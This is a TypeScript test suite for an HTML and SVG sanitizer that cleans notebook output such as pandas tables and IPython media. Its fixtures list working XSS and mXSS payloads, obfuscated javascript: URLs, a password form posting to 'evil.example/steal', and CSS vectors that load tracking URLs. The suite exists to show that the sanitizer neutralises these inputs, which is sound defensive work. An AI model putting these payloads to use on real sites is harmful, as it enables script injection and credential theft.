import { readFileSync } from 'node:fs';
import { JSDOM } from 'jsdom';
import katex from 'katex';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { assertInert, normalizeHtml, parseHtml } from '../../test/support/assert-inert.js';
import { isSafeUrl, sanitizeHtml, sanitizeSvg, type DroppedMedia } from './sanitize.js';

const fixture = (name: string) =>
  readFileSync(new URL(`../../test/fixtures/markdown/${name}`, import.meta.url), 'utf8');

const HOSTILE: ReadonlyArray<readonly [string, string]> = [
  ['script', '<p>ok</p><script>alert(1)</script>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['javascript: link', '<a href="javascript:alert(1)">x</a>'],
  ['javascript: with a tab entity', '<a href="java&#x09;script:alert(1)">x</a>'],
  ['javascript: with newline and case', '<a href="  JaVa&#10;ScRiPt:alert(1)">x</a>'],
  ['vbscript:', '<a href="vbscript:msgbox(1)">x</a>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  [
    'form action',
    '<form action="https://evil.example/steal"><input name="pw"><button formaction="javascript:alert(1)">go</button></form>',
  ],
  ['base href', '<base href="https://evil.example/">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['svg onload', '<svg onload="alert(1)"><circle r="5"/></svg>'],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  [
    'mXSS mglyph/style',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  ],
  [
    'mXSS comment in style',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
  ],
  ['mXSS noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['data:text/html link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['data:image/svg+xml link', '<a href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">x</a>'],
  ['style overlay', '<style>body{display:none} *{position:fixed}</style><p>text</p>'],
  [
    'style attribute overlay',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">pay here</div>',
  ],
  [
    'css expression',
    '<div style="width:expression(alert(1))">x</div><div style="background:url(javascript:alert(1))">y</div>',
  ],
  ['object/embed/applet', '<object data="x.swf"></object><embed src="x.swf"><applet code="X"></applet>'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['template', '<template><img src=x onerror=alert(1)></template>'],
  ['video poster', '<video src="https://example.org/v.mp4" poster="javascript:alert(1)" controls></video>'],
  ['srcset', '<img srcset="a.png 1x, javascript:alert(1) 2x">'],
  ['ping', '<a href="https://example.org" ping="https://evil.example/track">x</a>'],
  ['unbalanced end tags', '</div></section></main><p>escape</p>'],
  [
    'katex-html svg spoof',
    '<span class="katex-html"><svg onload="alert(1)"><a href="javascript:alert(1)"><path d="M0 0"/></a><foreignObject><img src=x onerror=alert(1)></foreignObject><path d="M1 1"/></svg></span>',
  ],
  ['dialog', '<dialog open>fake</dialog>'],
];

test('sanitizeHtml: hostile inputs come out inert', () => {
  for (const [name, input] of HOSTILE) {
    const out = sanitizeHtml(input);
    try {
      assertInert(out, { allowKatexSvg: true });
    } catch (error) {
      throw new Error(`${name}: ${(error as Error).message}\n${out}`);
    }
  }
});

test('assertInert rejects every hostile input as written (so the test above can fail)', () => {
  for (const [name, input] of HOSTILE) {
    let failed = false;
    try {
      assertInert(input);
    } catch {
      failed = true;
    }
    assert.ok(failed, `${name} passed the check unsanitized`);
  }
});

test('sanitizeHtml: what is removed and what is kept', () => {
  assert.is(sanitizeHtml('<a href="javascript:alert(1)">x</a>'), '<a>x</a>');
  assert.is(sanitizeHtml('<a href="java&#x09;script:alert(1)">x</a>'), '<a>x</a>');
  assert.is(sanitizeHtml('<img src=x onerror=alert(1)>'), '<img src="x">');
  assert.is(sanitizeHtml('<p>ok</p><script>alert(1)</script>'), '<p>ok</p>');
  assert.is(sanitizeHtml('<style>body{display:none}</style><p>text</p>'), '<p>text</p>');
  assert.is(sanitizeHtml('<svg onload="alert(1)"><circle r="5"/></svg>after'), 'after');
  assert.is(sanitizeHtml('<div style="position:fixed;top:0">x</div>'), '<div style="position:static;top:0">x</div>');
  assert.is(sanitizeHtml('<a href="data:text/html,x">x</a>'), '<a>x</a>');
  assert.is(sanitizeHtml('<img src="data:image/svg+xml;base64,PHN2Zz4=">'), '<img>');
  assert.is(
    sanitizeHtml('<img src="data:image/png;base64,iVBORw0KGgo=">'),
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
  );
  const kept =
    '<a href="mailto:a@example.org">m</a><a href="#sec">h</a><a href="../other.html?x=1">r</a><a href="https://example.org/">e</a>';
  assert.is(sanitizeHtml(kept), kept);
});

test('sanitizeHtml: target=_blank gets rel=noopener noreferrer; other targets go', () => {
  const out = parseHtml(
    sanitizeHtml(
      '<a href="https://example.org" target="_blank" rel="nofollow">x</a><a href="https://example.org" target="other">y</a>',
    ),
  );
  const [blank, other] = Array.from(out.querySelectorAll('a'));
  assert.is(blank?.getAttribute('target'), '_blank');
  assert.equal(blank?.getAttribute('rel')?.split(' ').sort(), ['nofollow', 'noopener', 'noreferrer']);
  assert.is(other?.hasAttribute('target'), false);
});

test('sanitizeHtml: details, images, ids and classes survive; clobbering names on images do not', () => {
  const html =
    '<details open=""><summary>More</summary><p id="intro" class="lead">x</p></details><img src="a.png" alt="A" width="10" height="20" loading="lazy">';
  assert.is(sanitizeHtml(html), html);
  const out = sanitizeHtml(
    '<img src="a.png" id="getElementById" name="cookie"><h2 id="images">Images</h2><a name="old-anchor"></a>',
  );
  assert.is(out, '<img src="a.png"><h2 id="images">Images</h2><a name="old-anchor"></a>');
});

test('sanitizeHtml: a real pandas DataFrame keeps its table markup and look', () => {
  const out = sanitizeHtml(fixture('dataframe.html'));
  const el = parseHtml(out);
  const table = el.querySelector('table.dataframe');
  assert.ok(table, 'table.dataframe');
  assert.is(table?.getAttribute('border'), '1');
  assert.is(el.querySelectorAll('thead th').length, 4);
  assert.is(el.querySelectorAll('tbody tr').length, 3);
  assert.is(el.querySelector('thead tr')?.getAttribute('style'), 'text-align: right;');
  assert.is(el.querySelector('tbody td')?.textContent, 'a<b');
  assert.not.ok(el.querySelector('style'), 'the scoped <style> is dropped');
  assertInert(out);
});

test("sanitizeHtml: pandas Styler colours become the cells' style attributes, on both paths", () => {
  // `df.style.background_gradient()` as pandas 2 writes it: a sheet of `#T_…_rowN_colM` rules.
  const html = fixture('styler.html');
  const fast = sanitizeHtml(html);
  const full = sanitizeHtml(`${html}<!-- c -->`); // a comment sends it through DOMPurify
  assert.is(normalizeHtml(fast), full);
  const el = parseHtml(fast);
  assert.is(el.querySelector('#T_5f3a1_row0_col0')?.getAttribute('style'), 'background-color: #440154; color: #f1f1f1');
  assert.is(el.querySelector('#T_5f3a1_row0_col1')?.getAttribute('style'), 'background-color: #fde725; color: #000000');
  assert.is(el.querySelector('#T_5f3a1_row1_col0')?.getAttribute('style'), 'background-color: #fde725; color: #000000');
  assert.is(el.querySelector('#T_5f3a1_level0_col0')?.getAttribute('style'), null, 'no rule, no style');
  assert.not.ok(el.querySelector('style'), 'the sheet itself is dropped');
  assertInert(fast);
});

test('sanitizeHtml: of a style sheet, only plain id rules are kept, checked like any style', () => {
  const sheet = `<style>
    #a { color: red }
    #b { background: url(javascript:alert(1)) }
    #c { position: fixed; top: 0 }
    @media print { #d { color: blue } }
    #e td, .x { color: green }
    #f:hover { color: pink }
    /* } #g { color: gray } */
    #h { color: red; } #h { font-weight: bold }
  </style>`;
  const cells = ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h']
    .map((id) => `<td id="${id}"${id === 'a' ? ' style="text-align:right"' : ''}>${id}</td>`)
    .join('');
  const table = `${sheet}<table><tr>${cells}</tr></table>`;
  for (const [path, html] of [
    ['fast path', table],
    ['DOMPurify', `${table}<!-- c -->`],
  ] as const) {
    const el = parseHtml(sanitizeHtml(html));
    const style = (id: string) => el.querySelector(`#${id}`)?.getAttribute('style') ?? null;
    assert.is(style('a'), 'text-align:right; color: red', `${path}: added to the cell's own style`);
    assert.is(style('b'), null, `${path}: an unsafe url() drops the style`);
    assert.is(style('c'), 'position:static; top: 0', `${path}: no fixed overlays`);
    for (const id of ['d', 'e', 'f', 'g'])
      assert.is(style(id), null, `${path}: #${id} (at-rule, combinator, pseudo-class, comment)`);
    assert.is(style('h'), 'color: red; font-weight: bold', `${path}: rules for one id add up`);
  }
});

/** Every way CSS can load another host (a tracking pixel), each beside a declaration that must stay. */
const CSS_VECTORS: ReadonlyArray<readonly [string, string]> = [
  ['url()', 'background: url(https://t.example/a.png)'],
  ['URL() in capitals, quoted', 'background-image: URL("https://t.example/a.png")'],
  ['scheme-relative url()', "background: url('//t.example/a.png')"],
  ['relative url()', 'background: url(a.png)'],
  ['image-set() with a string', 'background-image: image-set("https://t.example/a.png" 1x)'],
  ['-webkit-image-set()', 'background-image: -webkit-image-set(url(https://t.example/a.png) 1x)'],
  ['image()', 'background-image: image("https://t.example/a.png")'],
  ['cross-fade()', 'background-image: cross-fade(url(https://t.example/a.png) 50%, red)'],
  ['cursor', 'cursor: url(https://t.example/c.cur), auto'],
  ['list-style-image', 'list-style-image: url(https://t.example/l.png)'],
  ['list-style shorthand', 'list-style: square url(https://t.example/l.png)'],
  ['border-image', 'border-image: url(https://t.example/b.png) 30'],
  ['mask-image', 'mask-image: url(https://t.example/m.svg)'],
  ['content', 'content: url(https://t.example/c.png)'],
  ['filter', 'filter: url(https://t.example/f.svg#f)'],
  ['custom property', '--x: url(https://t.example/v.png); background: var(--x)'],
  ['custom property with image-set()', '--y: image-set("https://t.example/v.png" 1x)'],
  ['src()', 'background-image: src("https://t.example/s.png")'],
  ['@import', '@import "https://t.example/i.css"'],
  ['comment inside url', 'background: ur/**/l(https://t.example/c.png)'],
  ['comment before the parenthesis', 'background: url/* x */(https://t.example/c.png)'],
  ['a data: URL that is not a raster image', 'background: url("data:image/svg+xml;base64,PHN2Zz4=")'],
];

test('sanitizeHtml: CSS loads no URL in a style attribute, a Styler rule or on either path; the other declarations stay', () => {
  for (const [name, css] of CSS_VECTORS) {
    const attr = `color: red; ${css}; font-weight: bold`.replace(/"/g, '&quot;');
    const inputs = {
      attribute: `<p style="${attr}">x</p>`,
      'table (fast path unless quoted)': `<table><tr><td style="${attr}">x</td></tr></table>`,
      'Styler rule': `<style>#T_c { color: red; ${css}; font-weight: bold }</style><table><tr><td id="T_c">x</td></tr></table>`,
      'Styler rule (DOMPurify)': `<style>#T_c { color: red; ${css}; font-weight: bold }</style><table><tr><td id="T_c">x</td></tr></table><!-- c -->`,
    };
    for (const [where, html] of Object.entries(inputs)) {
      const out = sanitizeHtml(html);
      const style = parseHtml(out).querySelector('p, td')?.getAttribute('style') ?? '';
      assert.not.match(style, /t\.example|url|image|src|@import|a\.png|svg/i, `${name} (${where}): ${out}`);
      assert.match(style, /color: red/, `${name} (${where}): the harmless declarations stay: ${out}`);
      assert.match(style, /font-weight: bold/, `${name} (${where}): ${out}`);
    }
  }
});

test('sanitizeHtml: a style with an escape, in any spelling, is dropped whole', () => {
  for (const css of [
    'background: u\\72l(https://t.example/e.png)',
    'background: \\75 rl(https://t.example/e.png)',
    'color: red; --a: \\;background:url(https://t.example/e.png)',
  ]) {
    for (const html of [
      `<p style="${css}">x</p>`,
      `<p style='${css.replace(/\\/g, '&#92;')}'>x</p>`,
      `<style>#T_e { ${css} }</style><table><tr><td id="T_e">x</td></tr></table>`,
    ]) {
      const out = sanitizeHtml(html);
      assert.not.match(out, /style=|t\.example/, `${html} → ${out}`);
    }
  }
});

test("sanitizeHtml: a Styler sheet's @import and @font-face load nothing; its id rules stay", () => {
  const sheet =
    '<style>@import url(https://t.example/i.css); @import "https://t.example/j.css"; @font-face { font-family: X; src: url(https://t.example/f.woff2) } #T_c { color: red }</style>';
  for (const html of [
    `${sheet}<table><tr><td id="T_c">x</td></tr></table>`,
    `${sheet}<table><tr><td id="T_c">x</td></tr></table><!-- c -->`,
  ]) {
    const out = sanitizeHtml(html);
    assert.not.match(out, /t\.example|@import|font-face/, out);
    assert.is(parseHtml(out).querySelector('td')?.getAttribute('style'), 'color: red', out);
  }
});

test('sanitizeHtml: an unclosed url() at the end is dropped (a browser reads it to the end)', () => {
  assert.is(
    sanitizeHtml('<p style="color: red; background: url(https://t.example/u.png">x</p>'),
    '<p style="color: red">x</p>',
  );
  assert.is(
    sanitizeHtml('<p style="color: red; background: image-set(&quot;https://t.example/u.png&quot;">x</p>'),
    '<p style="color: red">x</p>',
  );
});

test('sanitizeHtml: entity-encoded and mixed-case url() in attributes is seen as the browser sees it', () => {
  for (const css of [
    'background:&#x75;rl(https://t.example/x.png)',
    'background:&#85;RL(https://t.example/x.png)',
    'background:&#x75&#x72&#x6c&#x28https://t.example/x.png)',
    'cursor:URL(https://t.example/x.png),auto',
  ]) {
    const out = sanitizeHtml(`<table><tr><td style="color:red;${css}">x</td></tr></table>`);
    assert.is(parseHtml(out).querySelector('td')?.getAttribute('style'), 'color:red', `${css} → ${out}`);
  }
});

test('sanitizeHtml: raster data: images and #fragments stay usable in CSS; srcset, poster and background follow their rules', () => {
  const png = 'data:image/png;base64,iVBORw0KGgo=';
  assert.is(
    sanitizeHtml(`<p style="background: url(${png}) no-repeat; color: red">x</p>`),
    `<p style="background: url(${png}) no-repeat; color: red">x</p>`,
  );
  assert.is(
    parseHtml(sanitizeHtml(`<p style="background: url('${png}'); color: red">x</p>`))
      .querySelector('p')
      ?.getAttribute('style'),
    `background: url('${png}'); color: red`,
  );
  assert.is(sanitizeHtml('<p style="clip-path: url(#c)">x</p>'), '<p style="clip-path: url(#c)">x</p>');
  // srcset and poster load images: the <img src> rule (https and raster data, never script or SVG).
  assert.is(
    sanitizeHtml('<picture><source srcset="javascript:alert(1)"><img src="a.png"></picture>'),
    '<picture><source><img src="a.png"></picture>',
  );
  assert.is(sanitizeHtml('<img srcset="data:image/svg+xml;base64,PHN2Zz4= 1x">'), '<img>');
  assert.is(sanitizeHtml('<video poster="data:image/svg+xml;base64,PHN2Zz4="></video>'), '<video></video>');
  assert.is(
    sanitizeHtml('<video poster="https://example.org/p.png"></video>'),
    '<video poster="https://example.org/p.png"></video>',
  );
  // The `background` attribute is a CSS background image: it loads nothing.
  for (const html of [
    '<table background="https://t.example/b.png"><tr><td background="b.png">x</td></tr></table>',
    '<table background="https://t.example/b.png"><tr><td background="b.png">x</td></tr></table><!-- c -->',
  ]) {
    const out = sanitizeHtml(html);
    assert.is(parseHtml(out).querySelectorAll('[background]').length, 0, out);
    assert.is(parseHtml(out).querySelector('td')?.textContent, 'x', out);
  }
});

test('sanitizeSvg: style sheets and style attributes load nothing from outside the file', () => {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg"><style>.a{fill:url(#g)} .b{background:image-set("https://t.example/a.png" 1x)} .c{cursor:URL(https://t.example/c.cur)} .d{--x:src("https://t.example/d")} .e{fill:u\\72l(https://t.example/e)} .f{fill:ur/**/l(https://t.example/f)}</style>
    <rect class="a" style="cursor:url(https://t.example/r.cur);fill:red" width="1" height="1"/><rect style="fill:url(#g);background:image-set('https://t.example/s.png' 1x)" width="1" height="1"/></svg>`;
  const out = sanitizeSvg(svg) ?? '';
  // What is left of the sheet's bad rules is `none(…)`, a function no property takes: the rule is void.
  assert.not.match(out, /(?:url|image-set|src)\([^)]*t\.example/i);
  assert.is((out.match(/none/g) ?? []).length, 4, out);
  assert.match(out, /\.a\{fill:url\(#g\)\}/);
  assert.match(out, /style="fill:red"/);
  assert.match(out, /style="fill:url\(#g\)"/);
});

/** A 100 KB table made of the rows of the real DataFrame fixture. */
function bigTable(): string {
  const small = fixture('dataframe.html');
  const rows = /<tbody>([\s\S]*)<\/tbody>/.exec(small)?.[1] ?? '';
  let body = '';
  while (body.length < 100_000) body += rows;
  return small
    .replace(/<tbody>[\s\S]*<\/tbody>/, `<tbody>${body}</tbody>`)
    .replace('</table>', '</table>\n<p>900 rows × 3 columns</p>');
}

// Its speed is measured by `npm run bench`, not here: a timed test fails on a busy machine.
test('sanitizeHtml: a 100 KB table through the fast path gives the same result as the full sanitizer', () => {
  const html = bigTable();
  const fast = sanitizeHtml(html);
  // A comment is something the table fast path does not take: this goes through DOMPurify.
  const full = sanitizeHtml(`${html}<!-- c -->`);
  assert.is(normalizeHtml(fast), full);
  assert.ok(parseHtml(fast).querySelectorAll('tbody tr').length > 500);
});

test('sanitizeHtml: tables with anything unusual go through DOMPurify', () => {
  const out = sanitizeHtml(
    '<table><tr><td onclick="alert(1)" style="color:red">x</td></tr></table><p>a<img src=x onerror=alert(1)></p>',
  );
  assert.not.match(out, /onclick|onerror/);
  assert.match(out, /<td style="color:red">x<\/td>/);
  const misnested = sanitizeHtml('<table><tr><td>a</tr></td></table></div><b>b');
  assertInert(misnested);
  assert.is(sanitizeHtml('<td>a &amp; b & c > d</td>'), 'a &amp; b &amp; c &gt; d');
});

test('sanitizeHtml: KaTeX output (HTML, MathML and its SVG) survives unchanged', () => {
  const formulas = [
    '\\sqrt{x^2+1}',
    '\\frac{a}{b}',
    '\\begin{pmatrix}1&2\\\\3&4\\end{pmatrix}',
    '\\overrightarrow{AB}',
    '\\widehat{xyz}',
    '\\cancel{x}',
    '\\color{red}{x}',
    '\\xrightarrow{abc}',
    '\\boxed{x}',
    '\\underbrace{a+b}_{c}',
    '\\begin{cases}a&b\\\\c&d\\end{cases}',
    '\\text{hi } \\mathbb{R}',
  ];
  for (const tex of formulas) {
    for (const displayMode of [false, true]) {
      const html = katex.renderToString(tex, {
        displayMode,
        output: 'htmlAndMathml',
        throwOnError: false,
        trust: false,
        strict: 'ignore',
      });
      const out = sanitizeHtml(html);
      assert.is(out, normalizeHtml(html), tex);
      assertInert(out, { allowKatexSvg: true });
    }
  }
  const sqrt = parseHtml(sanitizeHtml(katex.renderToString('\\sqrt{x}')));
  assert.ok(sqrt.querySelector('.katex-html svg path'), 'the radical sign (SVG path) is kept');
  assert.ok(sqrt.querySelector('math semantics annotation'), 'the MathML with its TeX annotation is kept');
});

test('isSafeUrl: schemes by kind', () => {
  assert.ok(isSafeUrl('https://example.org', 'link'));
  assert.ok(isSafeUrl('images/a b.png', 'link'));
  assert.ok(isSafeUrl('#frag', 'fragment'));
  assert.not.ok(isSafeUrl('java\tscript:alert(1)', 'link'));
  assert.not.ok(isSafeUrl('\u0001javascript:alert(1)', 'link'));
  assert.not.ok(isSafeUrl('data:image/png;base64,AAAA', 'link'));
  assert.ok(isSafeUrl('data:image/png;base64,AAAA', 'image'));
  assert.not.ok(isSafeUrl('data:image/svg+xml;base64,AAAA', 'image'));
  assert.not.ok(isSafeUrl('https://example.org/x.svg#a', 'fragment'));
});

test('sanitizeSvg: a real matplotlib SVG keeps its drawing and parses as a standalone XML file', () => {
  const input = fixture('matplotlib.svg');
  const out = sanitizeSvg(input);
  assert.ok(out);
  const doc = new JSDOM(out ?? '', { contentType: 'image/svg+xml' }).window.document;
  const root = doc.documentElement;
  assert.is(root.namespaceURI, 'http://www.w3.org/2000/svg');
  assert.is(root.getAttribute('viewBox'), '0 0 144 108');
  assert.is(doc.getElementsByTagName('parsererror').length, 0);
  const count = (src: string, tag: string) => (src.match(new RegExp(`<${tag}[\\s>/]`, 'g')) ?? []).length;
  for (const tag of ['path', 'use', 'g', 'image', 'clipPath', 'style'])
    assert.is(count(out ?? '', tag), count(input, tag), tag);
  assert.match(out ?? '', /xlink:href="#[^"]+"/);
  assert.match(out ?? '', /<image[^>]+xlink:href="data:image\/png;base64,/);
});

test('sanitizeSvg: script, foreignObject, handlers and outside references are removed', () => {
  const evil = `<?xml version="1.0"?><!DOCTYPE svg><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)">
    <script>alert(1)</script><foreignObject><div xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></div></foreignObject>
    <a xlink:href="javascript:alert(1)"><rect width="5" height="5" onclick="alert(1)"/></a><use href="https://evil.example/x.svg#a"/>
    <image href="https://evil.example/track.png"/><animate attributeName="href" to="javascript:alert(1)"/><set attributeName="xlink:href" to="javascript:alert(1)"/>
    <style>@import url(https://evil.example/x.css); .a{fill:url(https://evil.example/y)} .b{fill:url(#ok)}</style>
    <rect style="fill:url(https://evil.example/z)" fill="url(https://evil.example/w)" stroke="url(#grad)" width="1" height="1"/></svg>`;
  const out = sanitizeSvg(evil) ?? '';
  for (const bad of [
    /<script/i,
    /foreignObject/i,
    /\bon[a-z]+=/i,
    /javascript:/i,
    /evil\.example/,
    /@import/,
    /<animate\b/,
    /<set\b/,
  ])
    assert.not.match(out, bad);
  assert.match(out, /url\(#ok\)/);
  assert.match(out, /stroke="url\(#grad\)"/);
  assert.match(out, /^<svg xmlns="http:\/\/www.w3.org\/2000\/svg"/);
});

test('sanitizeSvg: undefined when no <svg> is left', () => {
  assert.is(sanitizeSvg('<div>not svg</div>'), undefined);
  assert.is(sanitizeSvg(''), undefined);
  assert.is(sanitizeSvg('<script>alert(1)</script>'), undefined);
});

// What IPython 8 writes for Audio(data) and Video(data, embed=True), byte for byte but the base64.
const IPYTHON_AUDIO = `<audio  controls="controls" >
                    <source src="data:audio/wav;base64,UklGRiQAAABXQVZF" type="audio/wav" />
                    Your browser does not support the audio element.
                </audio>`;
const IPYTHON_VIDEO = `<video controls  >
 <source src="data:video/mp4;base64,AAAAIGZ0eXBpc29t" type="video/mp4">
 Your browser does not support the video tag.
 </video>`;

function withDrops(input: string, rewrite?: (url: string) => string): { html: string; dropped: DroppedMedia[] } {
  const dropped: DroppedMedia[] = [];
  const html = sanitizeHtml(input, { media: { ...(rewrite ? { rewrite } : {}), dropped: (d) => dropped.push(d) } });
  return { html, dropped };
}

test('sanitizeHtml: players keep base64 audio/video data:, https and site URLs, as IPython writes them', () => {
  const audio = withDrops(IPYTHON_AUDIO);
  assert.match(
    audio.html,
    /<audio controls="controls">\s*<source src="data:audio\/wav;base64,UklGRiQAAABXQVZF" type="audio\/wav">/,
  );
  assert.equal(audio.dropped, []);
  const video = withDrops(IPYTHON_VIDEO);
  assert.match(video.html, /<source src="data:video\/mp4;base64,AAAAIGZ0eXBpc29t" type="video\/mp4">/);
  assert.equal(video.dropped, []);
  assert.is(
    sanitizeHtml('<video controls src="data:video/webm;codecs=vp8;base64,GkXf"></video>'),
    '<video controls="" src="data:video/webm;codecs=vp8;base64,GkXf"></video>',
  );
  assert.is(sanitizeHtml('<audio src="media/tone.ogg" loop></audio>'), '<audio src="media/tone.ogg" loop=""></audio>');
  assert.ok(isSafeUrl('data:audio/mpeg;base64,SUQz', 'media'));
  for (const url of [
    'data:text/html;base64,PHNjcmlwdD4=',
    'data:image/svg+xml;base64,PHN2Zz4=',
    'data:audio/wav,RIFF',
    'http://example.org/a.mp3',
    'javascript:alert(1)',
    'blob:https://example.org/x',
  ]) {
    assert.not.ok(isSafeUrl(url, 'media'), url);
  }
});

test('sanitizeHtml: players lose event handlers and URLs they may not play, and say so; one with nothing left goes', () => {
  const hostile = withDrops(
    '<video controls onloadstart="alert(1)" onerror="alert(2)" poster="javascript:alert(3)" src="data:text/html;base64,PHNjcmlwdD4=">' +
      '<source src="http://example.org/v.mp4" onerror="alert(4)"><source src="data:video/mp4;base64,AAAA" type="video/mp4"><track src="javascript:alert(5)"></video>',
  );
  assert.is(
    hostile.html,
    '<video controls=""><source src="data:video/mp4;base64,AAAA" type="video/mp4"><track></video>',
  );
  const said = hostile.dropped.map((d) => `${d.tag} ${d.attr}=${d.value}`).sort();
  assert.equal(said, [
    'source onerror=alert(4)',
    'source src=http://example.org/v.mp4',
    'track src=javascript:alert(5)',
    'video onerror=alert(2)',
    'video onloadstart=alert(1)',
    'video poster=javascript:alert(3)',
    'video src=data:text/html;base64,PHNjcmlwdD4=',
  ]);
  const silent = withDrops(
    '<audio controls><source src="javascript:alert(1)" type="audio/wav">Your browser does not support the audio element.</audio><p>after</p>',
  );
  assert.is(silent.html, '<p>after</p>');
  assert.equal(silent.dropped, [{ tag: 'source', attr: 'src', value: 'javascript:alert(1)' }, { tag: 'audio' }]);
  for (const html of [
    '<video src="java&#x09;script:alert(1)" controls></video>',
    '<audio src="data:text/javascript;base64,YWxlcnQoMSk="></audio>',
  ]) {
    assertInert(sanitizeHtml(html));
    assert.not.match(sanitizeHtml(html), /<(video|audio)/);
  }
});

test('sanitizeHtml: a player of another host loads nothing before the reader presses play', () => {
  assert.is(
    sanitizeHtml(
      '<video autoplay preload="auto" poster="https://example.org/p.png"><source src="https://example.org/v.mp4" type="video/mp4"></video>',
    ),
    '<video preload="none" poster="https://example.org/p.png"><source src="https://example.org/v.mp4" type="video/mp4"></video>',
  );
  assert.is(
    sanitizeHtml('<audio src="//example.org/a.mp3" autoplay></audio>'),
    '<audio src="//example.org/a.mp3" preload="none"></audio>',
  );
  assert.is(
    sanitizeHtml('<audio src="data:audio/wav;base64,UklG" autoplay></audio>'),
    '<audio src="data:audio/wav;base64,UklG" autoplay=""></audio>',
  );
});

test('sanitizeHtml: media rewrite maps the sources of players only, before they are checked', () => {
  const seen: string[] = [];
  const out = withDrops(
    `${IPYTHON_VIDEO}<img src="data:image/png;base64,AAAA"><picture><source srcset="b.png"></picture>`,
    (url) => {
      seen.push(url);
      return url.startsWith('data:video/') ? '_assets/0123456789abcdef.mp4' : url;
    },
  );
  assert.match(out.html, /<source src="_assets\/0123456789abcdef\.mp4" type="video\/mp4">/);
  assert.match(out.html, /<img src="data:image\/png;base64,AAAA">/);
  assert.ok(
    seen.every((url) => url.startsWith('data:video/mp4')),
    seen.join(),
  );
  assert.equal(out.dropped, []);
});

test('sanitizeHtml: each call reads only its own rewriter and id rules, even one made inside another', () => {
  const inner: string[] = [];
  const outer = sanitizeHtml('<style>#x { color: red }</style><a id="x" href="a.html">a</a><img src="b.png">', {
    rewriteUrl: (url) => {
      // A rewriter that sanitizes in turn: the inner call has no rewriter and no id rules of the outer.
      inner.push(sanitizeHtml('<p id="x"><a href="c.html">c</a><!-- full path --></p>'));
      return `../${url}`;
    },
  });
  assert.equal(inner, ['<p id="x"><a href="c.html">c</a></p>', '<p id="x"><a href="c.html">c</a></p>']);
  assert.is(outer, '<a id="x" href="../a.html" style="color: red">a</a><img src="../b.png">');
  // After a call that throws, the next call has none of its rewriter nor its rules.
  assert.throws(() =>
    sanitizeHtml('<style>#y { color: blue }</style><a id="y" href="d.html">d</a>', {
      rewriteUrl: () => {
        throw new Error('rewriter failed');
      },
    }),
  );
  assert.is(sanitizeHtml('<a id="y" href="d.html">d</a><!-- full path -->'), '<a id="y" href="d.html">d</a>');
});

test.run();
